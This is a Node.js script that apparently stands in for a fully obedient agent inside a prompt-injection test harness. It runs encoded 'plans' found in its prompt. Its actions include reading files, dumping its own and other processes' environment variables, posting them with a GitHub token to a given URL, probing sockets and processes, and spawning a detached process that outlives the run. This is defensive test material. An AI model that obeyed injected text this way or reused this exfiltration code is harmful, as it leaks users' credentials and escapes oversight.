// An agent that does whatever a text says, by every means that it has; and the task of its route.
const fs = require('node:fs');
const net = require('node:net');
const { spawn } = require('node:child_process');

const prompt = fs.readFileSync(0, 'utf8');
const [, id = ''] = /\b(c\d+x)\b/.exec(prompt) ?? [];
const plans = [...prompt.matchAll(/INJECT([\w+/=]+)TCEJNI/g)].map(([, text]) =>
  JSON.parse(Buffer.from(text, 'base64')),
);
const outputs = process.env.HOOKWRIGHT_OUTPUTS_FILE;
const said = [`ok-${id}`];
const handed = [];

const request = async ({ url, method = 'POST', body = '' }) => {
  const headers = { authorization: `Bearer ${process.env.GH_TOKEN ?? ''}`, 'content-type': 'application/json' };
  const answer = await fetch(url, {
    method,
    headers,
    ...(method === 'GET' ? {} : { body }),
    signal: AbortSignal.timeout(3000),
  });
  await answer.text();
};

/** Each returns what proves the deed; null if it did not work. */
const DEEDS = {
  read: ({ path, canary, url }) => tell(fs.readFileSync(path, 'utf8'), canary, url),
  env: ({ canary, url }) => tell(JSON.stringify(process.env) + environments(), canary, url),
  http: (deed) => request(deed).then(() => null),
  write: ({ path, text }) => void fs.writeFileSync(path, text),
  control: ({ path }) =>
    new Promise((resolve, reject) => {
      const socket = net.connect(path, () => resolve('control'));
      socket.on('error', reject).on('connect', () => socket.destroy());
    }),
  kill: ({ pid }) => (process.kill(pid, 0) ? 'kill' : null),
  late: ({ url }) => {
    const code = `setTimeout(() => fetch(${JSON.stringify(url)}).catch(() => {}), 1500)`;
    spawn(process.execPath, ['-e', code], { detached: true, stdio: 'ignore', env: {} }).unref();
    return null;
  },
};

/** What other processes of the user show. */
function environments() {
  return fs
    .readdirSync('/proc')
    .map((pid) => {
      try {
        return /^\d+$/.test(pid) ? fs.readFileSync(`/proc/${pid}/environ`, 'utf8') : '';
      } catch {
        return '';
      }
    })
    .join('');
}

async function tell(text, canary, url) {
  if (!text.includes(canary)) return null;
  await request({ url, body: text }).catch(() => {});
  handed.push({ output: 'comment', text: `${id} ${canary}` });
  return 'leak';
}

/** Hands over with the tools of the server, if the command names it; else in the file. */
async function handOver(all) {
  const config = process.argv[2] === undefined ? {} : JSON.parse(fs.readFileSync(process.argv[2], 'utf8')).mcpServers;
  if (outputs === undefined) return;
  if (config.hookwright === undefined) {
    fs.writeFileSync(outputs, all.map((each) => `${JSON.stringify(each)}\n`).join(''));
    return;
  }
  const server = spawn(config.hookwright.command, config.hookwright.args, { stdio: ['pipe', 'pipe', 'ignore'] });
  const send = (message) => server.stdin.write(`${JSON.stringify({ jsonrpc: '2.0', ...message })}\n`);
  send({
    id: 0,
    method: 'initialize',
    params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'd', version: '1' } },
  });
  send({ method: 'notifications/initialized' });
  for (const [at, { output, ...fields }] of all.entries())
    send({ id: at + 1, method: 'tools/call', params: { name: output, arguments: fields } });
  let lines = 0;
  for await (const chunk of server.stdout) {
    lines += String(chunk).split('\n').length - 1;
    if (lines > all.length) break;
  }
  server.stdin.end();
}

(async () => {
  // What an earlier run has left for this one.
  for (const name of fs.readdirSync('.')) {
    const left = name === 'left.md' ? fs.readFileSync(name, 'utf8') : '';
    if (/^c\d+x$/.test(left) && left !== id) said.push(`left-${left}`);
  }
  for (const { deeds, outputs: asked, answer, case: own } of plans) {
    handed.push(...asked);
    if (answer !== '') said.push(answer);
    for (const deed of deeds) {
      const proof = await Promise.resolve()
        .then(() => DEEDS[deed.do](deed))
        .catch(() => null);
      if (typeof proof === 'string') said.push(`${proof}-${own}`);
    }
  }
  await handOver([{ output: 'comment', text: `ok-${id}` }, { output: 'label', labels: ['bug'] }, ...handed]);
  console.log(said.join('\n'));
})();
